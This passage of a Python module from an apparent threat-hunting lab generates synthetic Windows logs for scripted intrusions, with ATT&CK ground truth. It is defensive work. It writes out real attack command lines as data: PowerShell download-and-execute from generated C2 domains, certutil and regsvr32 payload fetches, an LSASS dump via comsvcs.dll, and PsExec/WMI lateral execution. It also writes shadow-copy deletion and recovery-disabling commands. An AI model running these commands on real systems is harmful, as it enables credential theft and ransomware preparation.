"""Scripted intrusions (and one behaviour change) with ground truth.

A scenario picks its victims and times from its own seeded generator, then schedules *steps*: small
functions that run on one device inside that device's day, through the same builders as benign
activity, so attacks chain onto real sessions, real explorer processes and real service hosts. Every
event a step writes is tagged with the scenario and the ATT&CK technique it shows; the writer turns
tags into ``ground_truth.json``. Nothing in the events themselves marks them as malicious.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any, Protocol

from huntwatch.lab.benign import DOC_NAMES, adhoc_binary, fileshare_visit, remote_service_exec
from huntwatch.lab.catalog import BINARIES, Binary
from huntwatch.lab.events import HOUR, MINUTE, SECOND, DeviceDay, Proc, Session, encode_command
from huntwatch.lab.org import FIRST_NAMES, LAST_NAMES, Account, Device, Organisation

LSASS_CALLTRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
    "C:\\Windows\\System32\\dbgcore.DLL+6d4b|C:\\Windows\\System32\\dbgcore.DLL+6bc1|"
    "C:\\Windows\\System32\\comsvcs.dll+1a5e2|C:\\Windows\\System32\\rundll32.exe+3bc4"
)


@dataclass
class Step:
    device: Device
    ts: int
    fn: Callable[..., Any]
    args: tuple[Any, ...]
    technique: str
    in_session: bool = False


@dataclass
class LabWindow:
    """What a scenario may choose from: the organisation, the days, devices already taken."""

    org: Organisation
    start: int
    days: int
    weekdays: tuple[int, ...]
    taken: set[str] = field(default_factory=set)

    def day_start(self, day: int) -> int:
        return self.start + day * 24 * HOUR

    def workdays(self) -> list[int]:
        return [d for d in range(self.days) if self.weekdays[d] < 5] or list(range(self.days))

    def pick_workstation(self, rng: random.Random, want: Callable[[Account], bool] = lambda a: True) -> Device:
        """A victim desk nobody else's scenario uses, outside IT when possible; tiny labs share victims."""
        stations = self.org.workstations
        free = [d for d in stations if d.name not in self.taken]
        pool = [d for d in free if d.owner is not None and d.owner.department != "IT"] or free or list(stations)
        preferred = [d for d in pool if d.owner is not None and want(d.owner)] or pool
        device = rng.choice(preferred)
        self.taken.add(device.name)
        return device


@dataclass
class ScenarioPlan:
    key: str
    steps: list[Step] = field(default_factory=list)
    accounts: list[str] = field(default_factory=list)

    def add(
        self, device: Device, ts: int, fn: Callable[..., Any], *args: Any, technique: str = "", in_session: bool = False
    ) -> None:
        self.steps.append(Step(device, ts, fn, args, technique, in_session))


class Scenario(Protocol):
    name: str
    title: str
    kind: str
    tactics: tuple[str, ...]
    techniques: tuple[str, ...]
    description: str

    def plan(self, window: LabWindow, rng: random.Random) -> ScenarioPlan: ...


def _rand_name(rng: random.Random, n: int = 8, alphabet: str = string.ascii_lowercase) -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def _c2_domain(rng: random.Random) -> tuple[str, str]:
    words = ("cdn", "static", "update", "cloud", "assets", "metrics", "sync", "api", "img", "files")
    tlds = ("com", "net", "xyz", "info", "top", "online")
    name = f"{rng.choice(words)}-{_rand_name(rng, rng.randint(5, 9))}.{rng.choice(tlds)}"
    return name, _public_ip(rng, (45, 91, 103, 141, 185, 193, 194))


def _public_ip(rng: random.Random, first: tuple[int, ...]) -> str:
    return f"{rng.choice(first)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}.{rng.randint(2, 254)}"


def _shell(
    ctx: DeviceDay,
    ts: int,
    parent: Proc,
    session: Session,
    binary: str | Binary,
    cmdline: str,
    *,
    integrity: str | None = None,
) -> Proc:
    """How a C2 implant runs a command: a fresh ``cmd.exe /c`` with the tool as its child."""
    shell = ctx.spawn(ts, parent, "cmd", f"C:\\Windows\\system32\\cmd.exe /C {cmdline}", session, integrity=integrity)
    tool = ctx.run(ts + 40_000, shell, binary, cmdline, session, seconds=ctx.rng.uniform(0.3, 3), integrity=integrity)
    ctx.exit(ts + 4 * SECOND, shell)
    return tool


def _beacon(
    ctx: DeviceDay, proc: Proc, start: int, end: int, interval: int, jitter: float, domain: str, ip: str
) -> None:
    """Check-ins to a C2 server: a connection every ``interval`` ± jitter, a fresh lookup now and then."""
    at, n = start, 0
    while at < end:
        if n % 6 == 0:
            ctx.dns(at - 200_000, proc, domain, ip)
        ctx.connect(at, proc, ip, 443, dst_host=domain)
        at += int(interval * ctx.rng.uniform(1 - jitter, 1 + jitter))
        n += 1


# -- 1. commodity malware ------------------------------------------------------------------------------
class CommodityMalware:
    name = "commodity_malware"
    title = "Phishing document drops an implant that persists through a Run key and beacons"
    kind = "attack"
    tactics = ("initial-access", "execution", "persistence", "command-and-control")
    techniques = ("T1566.001", "T1204.002", "T1059.001", "T1105", "T1547.001", "T1071.001")
    description = (
        "A user opens a macro document from Outlook; the macro starts hidden, encoded PowerShell that downloads "
        "an executable into the user's AppData, registers it under the Run key and starts it; the implant "
        "checks in over HTTPS every few minutes while the user is logged on, day after day."
    )

    def plan(self, window: LabWindow, rng: random.Random) -> ScenarioPlan:
        device = window.pick_workstation(rng)
        user = device.owner
        assert user is not None
        day = rng.choice(window.workdays())
        ts = window.day_start(day) + rng.randint(int(9.5 * HOUR), int(14 * HOUR))
        domain, ip = _c2_domain(rng)
        folder = rng.choice(("Adobe", "Microsoft\\Crypto", "Intel", "Oracle", "Mozilla"))
        exe = f"{_rand_name(rng, 7)}.exe"
        state = {
            "domain": domain,
            "ip": ip,
            "path": f"C:\\Users\\{user.name}\\AppData\\Roaming\\{folder}\\{exe}",
            "doc": f"{rng.choice(('Invoice', 'Remittance', 'PO', 'Statement'))}_{rng.randint(10000, 99999)}.doc",
            "cache": _rand_name(rng, 8, string.ascii_uppercase + string.digits),
            "value": folder.split("\\")[0],
        }
        plan = ScenarioPlan(self.name, accounts=[user.qualified])
        plan.add(device, ts, self.infect, user, state, in_session=True, technique="T1204.002")
        for later in range(day + 1, window.days):
            # planned late so the day's logon has happened; the events land at the logon itself
            plan.add(
                device,
                window.day_start(later) + 23 * HOUR + 30 * MINUTE,
                self.restart,
                user,
                state,
                technique="T1547.001",
            )
        return plan

    @staticmethod
    def infect(ctx: DeviceDay, ts: int, user: Account, state: dict[str, str]) -> None:
        session = ctx.session_of(user, ts)
        if session is None or "outlook" not in session.apps:
            return
        outlook = session.apps["outlook"]
        doc = (
            f"C:\\Users\\{user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
            f"{state['cache']}\\{state['doc']}"
        )
        with ctx.technique("T1566.001"):
            ctx.file(ts, outlook, doc)
        with ctx.technique("T1204.002"):
            word = ctx.spawn(
                ts + 4 * SECOND, outlook, "winword", f'"{BINARIES["winword"].path}" /n "{doc}" /o ""', session
            )
            ctx.load(ts + 6 * SECOND, word, "vbe7")
        script = (
            f"$u='http://{state['domain']}/wp-content/uploads/2026/11/inv.ps1';"
            "IEX (New-Object Net.WebClient).DownloadString($u)"
        )
        relative = state["path"].split("Roaming\\", 1)[1]
        stage2 = (
            f'$p = "$env:APPDATA\\{relative}"\n'
            f"New-Item -ItemType Directory -Force -Path (Split-Path $p) | Out-Null\n"
            f"(New-Object Net.WebClient).DownloadFile('http://{state['domain']}/wp-content/b.bin', $p)\n"
            f"Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name "
            f"'{state['value']}Update' -Value $p\nStart-Process $p"
        )
        at = ts + 15 * SECOND
        with ctx.technique("T1059.001"):
            ps = ctx.powershell(
                at, word, f"powershell.exe -nop -w hidden -enc {encode_command(script)}", session, script, seconds=20
            )
            ctx.emit(
                at + 3 * SECOND,
                "Microsoft-Windows-PowerShell/Operational",
                4104,
                {
                    "MessageNumber": "1",
                    "MessageTotal": "1",
                    "ScriptBlockText": stage2,
                    "ScriptBlockId": ctx.uuid(),
                    "Path": "",
                },
            )
        with ctx.technique("T1105"):
            ctx.dns(at + SECOND, ps, state["domain"], state["ip"])
            ctx.connect(at + 1_200_000, ps, state["ip"], 80, dst_host=state["domain"])
            ctx.connect(at + 4 * SECOND, ps, state["ip"], 80, dst_host=state["domain"])
            ctx.file(at + 6 * SECOND, ps, state["path"])
        with ctx.technique("T1547.001"):
            ctx.reg_set(
                at + 7 * SECOND,
                ps,
                f"HKU\\{user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\{state['value']}Update",
                state["path"],
            )
        with ctx.technique("T1071.001"):
            implant = ctx.spawn(at + 8 * SECOND, ps, adhoc_binary(state["path"]), f'"{state["path"]}"', session)
            _beacon(ctx, implant, at + 12 * SECOND, session.end - MINUTE, 5 * MINUTE, 0.3, state["domain"], state["ip"])
            ctx.exit(session.end - 30 * SECOND, implant)
        ctx.exit(ts + 20 * MINUTE, word)

    @staticmethod
    def restart(ctx: DeviceDay, ts: int, user: Account, state: dict[str, str]) -> None:
        """The Run key brings the implant back at every logon."""
        session = next((s for s in ctx.sessions if s.account == user and s.desktop is not None), None)
        if session is None or session.desktop is None:
            return
        at = session.start + 8 * SECOND
        implant = ctx.spawn(at, session.desktop, adhoc_binary(state["path"]), f'"{state["path"]}"', session)
        with ctx.technique("T1071.001"):
            _beacon(ctx, implant, at + 5 * SECOND, session.end - MINUTE, 5 * MINUTE, 0.3, state["domain"], state["ip"])
        ctx.exit(session.end - 20 * SECOND, implant)


# -- 2. human-operated ransomware precursor ------------------------------------------------------------
class RansomwarePrecursor:
    name = "ransomware_precursor"
    title = "Human-operated intrusion: foothold, discovery, LSASS dump, lateral movement, recovery inhibited"
    kind = "attack"
    tactics = (
        "initial-access",
        "execution",
        "discovery",
        "credential-access",
        "persistence",
        "lateral-movement",
        "command-and-control",
        "impact",
    )
    techniques = (
        "T1204.002",
        "T1059.007",
        "T1218.011",
        "T1071.001",
        "T1033",
        "T1087.002",
        "T1482",
        "T1018",
        "T1082",
        "T1016",
        "T1053.005",
        "T1003.001",
        "T1021.002",
        "T1569.002",
        "T1047",
        "T1490",
    )
    description = (
        "A user runs a script from a downloaded archive; a DLL loader beacons out; the operator runs a burst of "
        "discovery, dumps LSASS with comsvcs.dll MiniDump, then at night uses a stolen admin account to reach "
        "several servers over admin shares with remote services, PsExec and WMI, and deletes shadow copies and "
        "disables recovery on each: the last step before encryption."
    )

    def plan(self, window: LabWindow, rng: random.Random) -> ScenarioPlan:
        org = window.org
        device = window.pick_workstation(rng, lambda a: a.local_admin)
        user = device.owner
        assert user is not None
        admin = rng.choice(org.admins)
        day = rng.choice(window.workdays()[:-1] or window.workdays())
        start = window.day_start(day) + rng.randint(int(9.5 * HOUR), int(11 * HOUR))
        lateral_day = day + 1 if day + 1 < window.days else day
        lateral = window.day_start(lateral_day) + (
            rng.randint(1 * HOUR, 2 * HOUR) if lateral_day != day else rng.randint(int(20 * HOUR), int(21 * HOUR))
        )
        domain, ip = _c2_domain(rng)
        servers = [s for s in org.servers if s.role not in ("dc",)]
        targets = rng.sample(servers, k=min(4, len(servers)))
        state: dict[str, Any] = {
            "domain": domain,
            "ip": ip,
            "dll": f"{_rand_name(rng, 6)}.dll",
            "zip": f"Invoice-{rng.randint(1000, 9999)}",
            "admin": admin,
        }
        plan = ScenarioPlan(self.name, accounts=[user.qualified, admin.qualified])
        plan.add(device, start, self.foothold, user, state, in_session=True, technique="T1204.002")
        plan.add(
            device, start + rng.randint(30, 50) * MINUTE, self.discovery, user, in_session=True, technique="T1087.002"
        )
        plan.add(
            device,
            start + rng.randint(100, 140) * MINUTE,
            self.dump_lsass,
            user,
            in_session=True,
            technique="T1003.001",
        )
        methods = ("service", "psexec", "wmi", "service")
        at = lateral
        for target, method in zip(targets, methods, strict=False):
            port = rng.randint(49670, 65000)
            plan.add(device, at, self.lateral_source, target, method, admin, port, technique="T1021.002")
            plan.add(org.dc, at + 200_000, self.dc_ticket, admin, device, target, technique="T1021.002")
            svc = _rand_name(rng, 7, string.ascii_letters + string.digits)
            plan.add(target, at + SECOND, self.lateral_target, device, method, admin, port, svc, technique="T1569.002")
            at += rng.randint(4, 15) * MINUTE
        return plan

    @staticmethod
    def foothold(ctx: DeviceDay, ts: int, user: Account, state: dict[str, Any]) -> None:
        session = ctx.session_of(user, ts)
        if session is None or session.desktop is None:
            return
        browser = session.apps.get("browser", session.desktop)
        downloads = f"C:\\Users\\{user.name}\\Downloads"
        with ctx.technique("T1204.002"):
            ctx.file(ts, browser, f"{downloads}\\{state['zip']}.zip")
            script = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp\\Temp1_{state['zip']}.zip\\{state['zip']}.js"
            ctx.file(ts + 20 * SECOND, session.desktop, script)
        with ctx.technique("T1059.007"):
            ws = ctx.spawn(
                ts + 22 * SECOND,
                session.desktop,
                "wscript",
                f'"C:\\Windows\\System32\\WScript.exe" "{script}"',
                session,
            )
            dll = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp\\{state['dll']}"
            ctx.dns(ts + 24 * SECOND, ws, state["domain"], state["ip"])
            ctx.connect(ts + 25 * SECOND, ws, state["ip"], 443, dst_host=state["domain"])
            ctx.file(ts + 27 * SECOND, ws, dll)
        with ctx.technique("T1218.011"):
            loader = ctx.spawn(ts + 30 * SECOND, ws, "rundll32", f'rundll32.exe "{dll}",DllRegisterServer', session)
            ctx.load(ts + 30 * SECOND + 100_000, loader, adhoc_binary(dll))
        ctx.exit(ts + 35 * SECOND, ws)
        with ctx.technique("T1071.001"):
            _beacon(ctx, loader, ts + 40 * SECOND, session.end - MINUTE, 60 * SECOND, 0.2, state["domain"], state["ip"])
        ctx.exit(session.end - 10 * SECOND, loader)
        ctx.host.lab["ransomware_loader"] = loader
        ctx.host.lab["ransomware_c2"] = (state["domain"], state["ip"])

    @staticmethod
    def discovery(ctx: DeviceDay, ts: int, user: Account) -> None:
        loader = ctx.host.lab.get("ransomware_loader")
        session = ctx.session_of(user, ts)
        if loader is None or session is None:
            return
        commands = [
            ("T1033", "whoami", "whoami /groups"),
            ("T1087.002", "net", 'net group "domain admins" /domain'),
            ("T1482", "nltest", "nltest /domain_trusts /all_trusts"),
            ("T1018", "nltest", f"nltest /dclist:{ctx.domain.netbios}"),
            ("T1018", "net", "net view /all /domain"),
            ("T1087.002", "net", 'net group "Domain Computers" /domain'),
            ("T1082", "systeminfo", "systeminfo"),
            ("T1016", "ipconfig", "ipconfig /all"),
            ("T1087.002", "net", 'net group "Enterprise Admins" /domain'),
        ]
        at = ts
        for technique, binary, cmdline in commands:
            with ctx.technique(technique):
                tool = _shell(ctx, at, loader, session, binary, cmdline)
                if binary == "net":
                    ctx.run(
                        at + 90_000,
                        tool,
                        "net1",
                        "C:\\Windows\\system32\\net1 " + cmdline.split(" ", 1)[1],
                        session,
                        seconds=0.4,
                    )
            at += ctx.rng.randint(3, 25) * SECOND

    @staticmethod
    def dump_lsass(ctx: DeviceDay, ts: int, user: Account) -> None:
        loader = ctx.host.lab.get("ransomware_loader")
        session = ctx.session_of(user, ts)
        if loader is None or session is None:
            return
        lsass = ctx.proc("lsass")
        dump = "C:\\Users\\Public\\Libraries\\sysdiag.dmp"
        shell = ctx.spawn(
            ts,
            loader,
            "cmd",
            'C:\\Windows\\system32\\cmd.exe /C tasklist /fi "imagename eq lsass.exe"',
            session,
            integrity="High",
        )
        ctx.run(ts + 50_000, shell, "tasklist", 'tasklist /fi "imagename eq lsass.exe"', session, integrity="High")
        ctx.exit(ts + 2 * SECOND, shell)
        at = ts + ctx.rng.randint(20, 60) * SECOND
        cmdline = (
            f"C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full"
        )
        shell = ctx.spawn(at, loader, "cmd", f"C:\\Windows\\system32\\cmd.exe /C {cmdline}", session, integrity="High")
        dumper = ctx.spawn(at + 50_000, shell, "rundll32", cmdline, session, integrity="High")
        ctx.load(at + 80_000, dumper, "comsvcs")
        ctx.load(at + 90_000, dumper, "dbgcore")
        ctx.access(at + 150_000, dumper, lsass, "0x1FFFFF", LSASS_CALLTRACE)
        ctx.file(at + 900_000, dumper, dump)
        ctx.exit(at + 3 * SECOND, dumper)
        ctx.exit(at + 3 * SECOND + 50_000, shell)
        at += ctx.rng.randint(2, 6) * MINUTE
        task = "\\Microsoft\\Windows\\WindowsUpdate\\sysupd"
        with ctx.technique("T1053.005"):
            _shell(
                ctx,
                at,
                loader,
                session,
                "schtasks",
                f'schtasks /create /tn "{task}" /tr "{loader.cmdline}" /sc hourly /ru SYSTEM /f',
                integrity="High",
            )
            ctx.task_created(
                at + SECOND,
                session,
                task,
                "rundll32.exe",
                loader.cmdline.split(" ", 1)[1],
                "<TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition></TimeTrigger>",
            )

    @staticmethod
    def dc_ticket(ctx: DeviceDay, ts: int, admin: Account, src: Device, target: Device) -> None:
        ctx.tgs(ts, admin, f"cifs/{target.fqdn}", src.ip)

    @staticmethod
    def lateral_source(ctx: DeviceDay, ts: int, target: Device, method: str, admin: Account, port: int) -> None:
        """The operator's side, from the loader (which runs again at night through a scheduled restart)."""
        loader = ctx.host.lab.get("ransomware_night")
        if loader is None:
            base = ctx.host.lab.get("ransomware_loader")
            if base is None:
                return
            with ctx.technique("T1053.005"):
                loader = ctx.spawn(ts - 5 * MINUTE, ctx.proc("svc_schedule"), "rundll32", base.cmdline, ctx.system)
            domain, ip = ctx.host.lab["ransomware_c2"]
            with ctx.technique("T1071.001"):
                _beacon(ctx, loader, ts - 4 * MINUTE, ts + 2 * HOUR, 60 * SECOND, 0.2, domain, ip)
            ctx.exit(ts + 2 * HOUR, loader)
            ctx.host.lab["ransomware_night"] = loader
        session = loader.session
        with ctx.technique("T1021.002" if method != "wmi" else "T1047"):
            ctx.explicit_logon(
                ts, session, admin, target.name, loader, ip=target.ip, port="445" if method != "wmi" else "135"
            )
            if method == "wmi":
                wmic = ctx.spawn(
                    ts + 100_000,
                    loader,
                    "wmic",
                    f'wmic /node:"{target.name}" /user:"{ctx.domain.netbios}\\{admin.name}" '
                    'process call create "cmd.exe /c C:\\Windows\\Temp\\svcupd.exe"',
                    session,
                )
                ctx.connect(ts + 200_000, wmic, target.ip, 135, dst_host=target.fqdn, src_port=port)
                ctx.exit(ts + 3 * SECOND, wmic)
            elif method == "psexec":
                tool_path = "C:\\Users\\Public\\Libraries\\PsExec64.exe"
                tool_bin = replace(BINARIES["psexec"], path=tool_path)  # the same file, dropped elsewhere
                ctx.file(ts - MINUTE, loader, tool_path)
                tool = ctx.spawn(
                    ts + 100_000,
                    loader,
                    tool_bin,
                    f"{tool_path} \\\\{target.name} -accepteula -s -d cmd /c C:\\Windows\\Temp\\svcupd.exe",
                    session,
                )
                ctx.connect(ts + 200_000, tool, target.ip, 445, dst_host=target.fqdn, src_port=port)
                ctx.exit(ts + 5 * SECOND, tool)
            else:
                ctx.connect(ts + 200_000, loader, target.ip, 445, dst_host=target.fqdn, src_port=port)

    @staticmethod
    def lateral_target(
        ctx: DeviceDay, ts: int, src: Device, method: str, admin: Account, port: int, service: str
    ) -> None:
        impact = [
            ("vssadmin", "vssadmin.exe delete shadows /all /quiet"),
            ("wmic", "wmic.exe shadowcopy delete /nointeractive"),
            ("bcdedit", "bcdedit.exe /set {default} recoveryenabled No"),
            ("bcdedit", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
        ]
        if ctx.device.role == "backup":
            impact.append(("wbadmin", "wbadmin.exe delete catalog -quiet"))
        if method == "wmi":
            with ctx.technique("T1047"):
                session = ctx.new_session(admin, 3, ts, src_ip=src.ip, elevated=True)
                ctx.logon(ts, session, ip=src.ip, port=str(port), workstation=src.name, elevated=True)
                wmi = ctx.spawn(
                    ts + 300_000,
                    ctx.proc("svc_dcom"),
                    "wmiprvse",
                    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                    ctx.system,
                )
                shell = ctx.spawn(
                    ts + SECOND, wmi, "cmd", "cmd.exe /c C:\\Windows\\Temp\\svcupd.exe", session, integrity="High"
                )
            payload = ctx.spawn(
                ts + 2 * SECOND,
                shell,
                adhoc_binary("C:\\Windows\\Temp\\svcupd.exe"),
                "C:\\Windows\\Temp\\svcupd.exe",
                session,
                integrity="High",
            )
            at = ts + 30 * SECOND
            with ctx.technique("T1490"):
                for binary, cmdline in impact:
                    _shell(ctx, at, payload, session, binary, cmdline, integrity="High")
                    at += ctx.rng.randint(2, 9) * SECOND
            ctx.exit(at + SECOND, payload)
            ctx.logoff(at + 5 * SECOND, session)
            return
        if method == "psexec":
            with ctx.technique("T1569.002"):
                remote_service_exec(
                    ctx,
                    ts,
                    admin,
                    src,
                    port,
                    "PSEXESVC",
                    "%SystemRoot%\\PSEXESVC.exe",
                    [("cmd", "cmd /c C:\\Windows\\Temp\\svcupd.exe")],
                )
            payload = ctx.spawn(
                ts + 5 * SECOND,
                ctx.proc("services"),
                adhoc_binary("C:\\Windows\\Temp\\svcupd.exe"),
                "C:\\Windows\\Temp\\svcupd.exe",
                ctx.system,
            )
        else:
            with ctx.technique("T1569.002"):
                remote_service_exec(ctx, ts, admin, src, port, service, f"%SystemRoot%\\{service}.exe", [])
            payload = ctx.spawn(
                ts + 4 * SECOND,
                ctx.proc("services"),
                adhoc_binary(f"C:\\Windows\\{service}.exe"),
                f"C:\\Windows\\{service}.exe",
                ctx.system,
            )
        at = ts + 40 * SECOND
        with ctx.technique("T1490"):
            for binary, cmdline in impact:
                _shell(ctx, at, payload, ctx.system, binary, cmdline)
                at += ctx.rng.randint(2, 9) * SECOND
        ctx.exit(at + SECOND, payload)


# -- 3. espionage, low and slow ---------------------------------------------------------------------------
class EspionageLolbins:
    name = "espionage_lolbins"
    title = "Low-and-slow espionage with living-off-the-land binaries and jittered beaconing over days"
    kind = "attack"
    tactics = (
        "execution",
        "defense-evasion",
        "persistence",
        "command-and-control",
        "discovery",
        "collection",
        "exfiltration",
    )
    techniques = (
        "T1218.005",
        "T1105",
        "T1140",
        "T1218.010",
        "T1053.005",
        "T1218.011",
        "T1071.001",
        "T1083",
        "T1039",
        "T1041",
    )
    description = (
        "mshta runs a remote HTA, certutil downloads and decodes a DLL, regsvr32 fetches a scriptlet, a scheduled "
        "task named like Office telemetry runs the DLL with rundll32 about every 45 minutes, day and night; once "
        "a day the operator lists and copies a few finance files and sends them out over the same channel."
    )

    def plan(self, window: LabWindow, rng: random.Random) -> ScenarioPlan:
        device = window.pick_workstation(rng, lambda a: a.department in ("Finance", "Legal"))
        user = device.owner
        assert user is not None
        day = window.workdays()[0]
        start = window.day_start(day) + rng.randint(int(13 * HOUR), int(15 * HOUR))
        domain, ip = _c2_domain(rng)
        state = {
            "domain": domain,
            "ip": ip,
            "dir": "C:\\ProgramData\\Microsoft\\OfficeTelemetry",
            "dll": f"{_rand_name(rng, 5)}64.dll",
            "task": "\\Microsoft\\Office\\OfficeTelemetryAgentSync",
        }
        plan = ScenarioPlan(self.name, accounts=[user.qualified])
        plan.add(device, start, self.initial, user, state, in_session=True, technique="T1218.005")
        for d in range(day, window.days):
            begin = start + 30 * MINUTE if d == day else window.day_start(d)
            plan.add(device, begin, self.beacons, user, state, window.day_start(d) + 24 * HOUR, technique="T1071.001")
            if d > day:
                at = window.day_start(d) + rng.randint(10 * HOUR, 15 * HOUR)
                plan.add(device, at, self.collect, user, state, in_session=True, technique="T1083")
                plan.add(window.org.fileserver, at + 40 * SECOND, self.share_reads, user, device)
        return plan

    @staticmethod
    def initial(ctx: DeviceDay, ts: int, user: Account, state: dict[str, str]) -> None:
        session = ctx.session_of(user, ts)
        if session is None or session.desktop is None:
            return
        url = f"https://{state['domain']}/view/statement.hta"
        with ctx.technique("T1218.005"):
            mshta = ctx.spawn(ts, session.desktop, "mshta", f'"C:\\Windows\\System32\\mshta.exe" "{url}"', session)
            ctx.load(ts + 200_000, mshta, "mshtml")
            ctx.load(ts + 250_000, mshta, "jscript9")
            ctx.dns(ts + 300_000, mshta, state["domain"], state["ip"])
            ctx.connect(ts + 400_000, mshta, state["ip"], 443, dst_host=state["domain"])
        blob = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp\\thumb{ctx.rng.randint(10, 99)}.png"
        dll = f"{state['dir']}\\{state['dll']}"
        with ctx.technique("T1105"):
            cu = ctx.run(
                ts + 5 * SECOND,
                mshta,
                "certutil",
                f"certutil.exe -urlcache -split -f https://{state['domain']}/img/thumb.png {blob}",
                session,
                seconds=3,
            )
            ctx.connect(ts + 6 * SECOND, cu, state["ip"], 443, dst_host=state["domain"])
            ctx.file(ts + 7 * SECOND, cu, blob)
        with ctx.technique("T1140"):
            dec = ctx.run(ts + 12 * SECOND, mshta, "certutil", f"certutil.exe -decode {blob} {dll}", session)
            ctx.file(ts + 13 * SECOND, dec, dll)
        with ctx.technique("T1218.010"):
            rs = ctx.run(
                ts + 20 * SECOND,
                mshta,
                "regsvr32",
                f"regsvr32.exe /s /n /u /i:https://{state['domain']}/img/r.sct scrobj.dll",
                session,
                seconds=4,
            )
            ctx.load(ts + 20 * SECOND + 300_000, rs, "scrobj")
            ctx.connect(ts + 21 * SECOND, rs, state["ip"], 443, dst_host=state["domain"])
        with ctx.technique("T1053.005"):
            command = f"rundll32.exe {dll},DllRegisterServer"
            ctx.run(
                ts + 30 * SECOND,
                rs,
                "schtasks",
                f'schtasks.exe /create /sc minute /mo 45 /tn "{state["task"]}" /tr "{command}" /f',
                session,
            )
            ctx.task_created(
                ts + 31 * SECOND,
                session,
                state["task"],
                "rundll32.exe",
                f"{dll},DllRegisterServer",
                "<TimeTrigger><Repetition><Interval>PT45M</Interval></Repetition><Enabled>true</Enabled></TimeTrigger>",
            )
        ctx.exit(ts + 40 * SECOND, mshta)

    @staticmethod
    def beacons(ctx: DeviceDay, ts: int, user: Account, state: dict[str, str], until: int) -> None:
        """The task's runs: each rundll32 start checks in once or twice, then exits; jitter ±25%."""
        schedule = ctx.proc("svc_schedule")
        runner = ctx.new_session(user, 4, ts)  # a task runs in its own batch logon, desk or no desk
        ctx.logon(ts - SECOND, runner, process="C:\\Windows\\System32\\svchost.exe", process_id=1240)
        dll = f"{state['dir']}\\{state['dll']}"
        at = ts
        while at < until:
            with ctx.technique("T1218.011"):
                proc = ctx.spawn(at, schedule, "rundll32", f"rundll32.exe {dll},DllRegisterServer", runner)
            with ctx.technique("T1071.001"):
                if ctx.rng.random() < 0.3:
                    ctx.dns(at + 200_000, proc, state["domain"], state["ip"])
                ctx.connect(at + 400_000, proc, state["ip"], 443, dst_host=state["domain"])
            ctx.exit(at + ctx.rng.randint(2, 20) * SECOND, proc)
            ctx.host.lab["espionage_last"] = proc
            at += int(45 * MINUTE * ctx.rng.uniform(0.75, 1.25))

    @staticmethod
    def collect(ctx: DeviceDay, ts: int, user: Account, state: dict[str, str]) -> None:
        session = ctx.session_of(user, ts)
        if session is None:
            return
        proc = ctx.spawn(
            ts,
            ctx.proc("svc_schedule"),
            "rundll32",
            f"rundll32.exe {state['dir']}\\{state['dll']},DllRegisterServer",
            session,
        )
        fs = ctx.org.fileserver
        with ctx.technique("T1083"):
            _shell(
                ctx,
                ts + 10 * SECOND,
                proc,
                session,
                "cmd",
                f"cmd.exe /c dir /s /b \\\\{fs.name}\\Finance\\*.xlsx > {state['dir']}\\l.tmp",
            )
        with ctx.technique("T1039"):
            for i, doc in enumerate(ctx.rng.sample(DOC_NAMES, k=3)):
                ctx.file(ts + (40 + i * 5) * SECOND, proc, f"{state['dir']}\\cache\\{doc}.xlsx")
            ctx.connect(ts + 40 * SECOND, proc, fs.ip, 445, dst_host=fs.fqdn)
        with ctx.technique("T1041"):
            for i in range(3):
                ctx.connect(ts + (70 + i * 11) * SECOND, proc, state["ip"], 443, dst_host=state["domain"])
        ctx.exit(ts + 2 * MINUTE, proc)

    @staticmethod
    def share_reads(ctx: DeviceDay, ts: int, user: Account, src: Device) -> None:
        with ctx.technique("T1039"):
            fileshare_visit(ctx, ts, user, src, "Finance", 4)


# -- 4. insider staging data -----------------------------------------------------------------------------
class InsiderStaging:
    name = "insider_staging"
    title = "Insider stages share data locally, packs it in a password-protected archive and uploads it"
    kind = "attack"
    tactics = ("collection", "exfiltration", "defense-evasion")
    techniques = ("T1039", "T1074.001", "T1560.001", "T1567.002", "T1070.004")
    description = (
        "Late in the day a user copies whole folders from the Finance and HR shares into a staging folder, "
        "packs them with 7-Zip behind a password with encrypted headers, uploads the archive to a file-sharing "
        "site with curl, and deletes the staging folder."
    )

    def plan(self, window: LabWindow, rng: random.Random) -> ScenarioPlan:
        device = window.pick_workstation(rng, lambda a: a.department in ("Sales", "Finance", "Marketing"))
        user = device.owner
        assert user is not None
        day = window.workdays()[-1]
        at = window.day_start(day) + rng.randint(int(16.5 * HOUR), int(17.5 * HOUR))
        plan = ScenarioPlan(self.name, accounts=[user.qualified])
        stage = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp\\{_rand_name(rng, 4)}"
        archive = f"C:\\Users\\{user.name}\\Documents\\{rng.choice(('photos', 'misc', 'old', 'personal'))}.7z"
        state = {"stage": stage, "archive": archive, "password": _rand_name(rng, 10, string.ascii_letters + "!#$%")}
        plan.add(device, at, self.stage_and_upload, user, state, in_session=True, technique="T1074.001")
        plan.add(window.org.fileserver, at + 10 * SECOND, self.share_reads, user, device)
        return plan

    @staticmethod
    def stage_and_upload(ctx: DeviceDay, ts: int, user: Account, state: dict[str, str]) -> None:
        session = ctx.session_of(user, ts)
        if session is None or session.desktop is None:
            return
        fs = ctx.org.fileserver
        shell = ctx.spawn(ts, session.desktop, "cmd", '"C:\\Windows\\system32\\cmd.exe" ', session)
        at = ts + 10 * SECOND
        with ctx.technique("T1039"):
            for share in ("Finance", "HR"):
                robo = ctx.spawn(
                    at,
                    shell,
                    "robocopy",
                    f"robocopy \\\\{fs.name}\\{share} {state['stage']}\\{share} /E /R:0 /W:0 /NP",
                    session,
                )
